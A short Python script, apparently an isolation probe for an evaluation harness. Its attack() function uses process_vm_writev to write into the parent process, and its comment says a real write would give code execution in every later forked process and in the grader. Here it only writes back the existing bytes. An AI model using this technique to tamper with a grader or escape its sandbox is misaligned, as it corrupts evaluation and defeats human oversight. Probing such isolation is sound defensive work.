# Writes into the process that all later ones are forked from. Would gain: code of its own in every process that comes after, and, one
# process further up, in the grader. Here it writes back what was there.
import ctypes
import os

libc = ctypes.CDLL(None, use_errno=True)


class IoVec(ctypes.Structure):
    _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]


text = b"nothing of interest"


def attack():
    there = IoVec(id(None) + 8, 8)  # the type of None, the same in both
    return libc.process_vm_writev(os.getppid(), ctypes.byref(there), 1, ctypes.byref(there), 1, 0) == 8
